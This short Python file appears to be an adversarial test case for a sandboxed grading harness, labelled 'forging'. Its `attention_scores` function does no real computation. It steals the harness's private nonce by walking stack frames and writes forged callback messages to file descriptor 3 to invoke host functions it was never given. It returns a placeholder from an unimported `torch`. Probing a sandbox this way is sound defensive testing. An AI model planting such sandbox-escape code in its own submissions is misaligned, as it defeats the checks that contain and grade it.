"""Calls back functions that it was never given, by every number.

Technique: forging
"""

import os, struct, sys

sys.path.insert(0, "/lane")
from lane import wire


def desk():
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "_nonce"):
        frame = frame.f_back
    return frame.f_locals["self"]


def attention_scores(q, k, *, scale=None):
    for number in (0, 1, -1, 1 << 40):
        os.write(3, wire.encode(wire.CallBack(number), [], desk()._nonce))
        desk()._next()
    return torch.zeros(2)
